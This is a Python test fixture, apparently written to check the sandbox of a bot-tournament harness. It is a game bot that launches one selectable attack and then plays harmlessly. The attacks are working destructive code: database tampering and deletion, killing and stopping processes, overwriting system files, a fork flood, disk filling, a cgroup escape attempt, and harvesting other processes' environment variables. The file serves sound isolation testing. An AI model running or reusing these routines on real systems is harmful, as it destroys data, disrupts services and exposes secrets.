"""A bot that attacks whatever it can reach, then plays as a harmless bot does (the first
legal move, every time), so that a run with it gives the results of a run with the
harmless bot in its seat if its attack did no harm.

Its first argument names the attack, made once per process, before its hello is
answered; ``harmless`` makes none. What it tried and found is written to its standard
error, one line each (``found ...``, ``wrote ...``, ``forked N``), for the test to read
in its log:

* ``database``: looks for SQLite files everywhere it can see (its folder, its working
  directory, ``/proc/*/cwd``, ``/proc/*/fd``, ``/proc/*/cmdline``, the whole file
  tree) and runs ``UPDATE match_seat`` and ``DELETE FROM match`` on each;
* ``signals``: sends ``SIGKILL`` and ``SIGSTOP`` to every process it can see but itself,
  and ``SIGSTOP`` to every process group and to -1;
* ``overwrite``: opens every file it can see for writing, and truncates and rewrites
  it, the programs of other bots named in ``HOSTILE_TARGETS`` first;
* ``forks``: forks 1,000 processes that sleep (as many as it may);
* ``disk``: writes until nothing more can be written, in its folder, ``HOME``, ``/tmp``
  and ``/dev/shm``;
* ``escape``: leaves by a double fork and ``setsid``, writes its process id to every
  ``cgroup.procs`` it can find, and lives on as ``sleep`` named with ``HOSTILE_MARKER``;
* ``secrets``: reads its environment, ``/proc/*/environ``, and every log and file it can
  find outside its folder.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import sqlite3
import sys
import time

ATTACK = sys.argv[1] if len(sys.argv) > 1 else "harmless"
SKIP = ("/proc", "/sys", "/dev", "/usr", "/etc")
"""Not walked: the kernel's files, and the system's (read-only, and long to walk)."""


def say(text: str) -> None:
    sys.stderr.write(text + "\n")
    sys.stderr.flush()


def every_file(top: str = "/") -> list[str]:
    found = []
    for folder, dirs, files in os.walk(top, onerror=lambda e: None):
        if folder == top:
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in SKIP]
        found.extend(os.path.join(folder, f) for f in files)
    return found


def processes() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def database() -> None:
    candidates = set()
    for path in every_file():
        try:
            with open(path, "rb") as file:
                if file.read(16) == b"SQLite format 3\0":
                    candidates.add(path)
        except OSError:
            continue
    for pid in processes():
        for link in ("cwd", "root"):
            with contextlib.suppress(OSError):
                say(f"found {link} of {pid}: {os.readlink(f'/proc/{pid}/{link}')}")
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                candidates.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read().split(b"\0")
            candidates.update(w.decode() for w in words if w.endswith(b".db"))
        except OSError:
            pass
    for path in sorted(candidates):
        try:
            con = sqlite3.connect(path, timeout=1)
            con.execute("UPDATE match_seat SET place = 1")
            con.execute("DELETE FROM match")
            con.commit()
            say(f"wrote {path}")
        except Exception as exc:
            say(f"could not write {path}: {exc}")
        try:
            os.unlink(path)
            say(f"deleted {path}")
        except OSError:
            pass


def signals() -> None:
    seen = processes()
    say(f"found processes {seen}")
    for pid in seen:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                say(f"signalled {pid} with {sig.name}")
            except OSError:
                pass
    for group in range(2, 4096):
        try:
            os.killpg(group, signal.SIGSTOP)
            say(f"stopped group {group}")
        except OSError:
            pass


def overwrite() -> None:
    targets = [p for p in os.environ.get("HOSTILE_TARGETS", "").split(os.pathsep) if p]
    for path in [*targets, "/usr/bin/python3", "/etc/passwd", *every_file()]:
        if path == os.path.abspath(__file__):
            continue
        try:
            with open(path, "r+b") as file:
                file.truncate(0)
                file.write(b"#!/bin/sh\nexit 3\n")
            say(f"wrote {path}")
        except OSError:
            pass


def forks() -> None:
    children = 0
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
    say(f"forked {children}")


def disk() -> None:
    block = b"x" * (1 << 20)
    for folder in (".", os.environ.get("HOME", "/tmp"), "/tmp", "/dev/shm"):
        written = 0
        try:
            with open(os.path.join(folder, f"fill-{os.getpid()}"), "wb") as file:
                while written < 4 << 30:
                    file.write(block)
                    file.flush()
                    written += len(block)
        except OSError:
            pass
        say(f"filled {folder} with {written >> 20} MiB")


def escape() -> None:
    marker = os.environ.get("HOSTILE_MARKER", "hostile-escapee")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for folder, _, files in os.walk("/sys/fs/cgroup", onerror=lambda e: None):
                if "cgroup.procs" in files:
                    try:
                        with open(os.path.join(folder, "cgroup.procs"), "w") as file:
                            file.write(str(os.getpid()))
                        say(f"moved to {folder}")
                    except OSError:
                        pass
            say("escaped")
            os.execv("/bin/sleep", [marker, "3600"])
        os._exit(0)
    os.wait()


def secrets() -> None:
    say(f"environment {sorted(os.environ)}")
    for pid in processes():
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                say(f"found environment of {pid}: {file.read()[:200]!r}")
        except OSError:
            pass
    here = os.path.dirname(os.path.abspath(__file__))
    for path in every_file():
        if path.startswith(here + os.sep) or path.startswith(("/usr", "/etc")):
            continue
        try:
            with open(path, "rb") as file:
                file.read(64)
            say(f"read {path}")
        except OSError:
            pass


ATTACKS = {
    "database": database,
    "signals": signals,
    "overwrite": overwrite,
    "forks": forks,
    "disk": disk,
    "escape": escape,
    "secrets": secrets,
    "harmless": lambda: None,
}


def send(message: object) -> None:
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def main() -> None:
    try:
        ATTACKS[ATTACK]()
    except Exception as exc:  # the attack failed as a whole: play on all the same
        say(f"attack failed: {exc!r}")
    for line in sys.stdin:
        message = json.loads(line)
        if message["type"] == "hello":
            send({"type": "hello", "name": "hostile", "version": "1"})
        elif message["type"] == "move":
            send({"type": "move", "move": message["legal"][0]})
        elif message["type"] == "quit":
            return


main()
